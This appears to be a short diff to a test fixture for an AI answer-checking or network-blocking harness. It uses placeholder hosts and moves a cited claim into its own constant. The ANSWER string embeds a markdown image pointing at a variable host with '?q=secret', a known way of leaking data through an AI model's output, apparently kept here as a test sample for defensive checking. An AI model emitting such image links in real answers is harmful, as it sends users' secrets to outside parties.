@@ -24,7 +24,8 @@ CONTROL = {"control_tcp": 51, "control_udp": 52}
 CONTROL6 = "2001:db8::51"
 LOOK_UP = "look-up.proof.invalid"
 SECONDS = 3.0
-ANSWER = f"Access logs are kept for 90 days [1]. ![logs](http://{NETWORK}{IN_ANSWER}/pixel.png?q=secret)"
+SUPPORTED = "Access logs are kept for 90 days"
+ANSWER = f"{SUPPORTED} [1]. ![logs](http://{NETWORK}{IN_ANSWER}/pixel.png?q=secret)"
 _PORT = 80
 
 
